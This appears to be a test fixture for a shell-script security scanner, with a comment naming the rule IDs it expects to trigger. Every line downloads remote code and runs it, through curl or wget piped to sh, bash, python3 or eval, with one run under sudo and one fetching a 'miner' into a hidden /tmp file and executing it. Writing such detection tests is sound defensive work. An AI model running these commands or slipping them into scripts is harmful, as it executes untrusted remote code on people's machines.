#!/bin/sh
# expect: sh-curl-pipe-sh sh-curl-exec sh-curl-pipe-interp sh-download-exec
curl -fsSL https://get.example.com/install.sh | sh
wget -qO- http://203.0.113.9/x | sudo bash
curl -s http://203.0.113.9/x|bash -s -- --quiet
bash <(curl -s https://get.example.com/setup)
eval "$(curl -fsSL https://203.0.113.9/env)"
sh -c "$(wget -qO- https://get.example.com/i.sh)"
curl -s https://203.0.113.9/p.py | python3
wget -q http://203.0.113.9/miner -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x
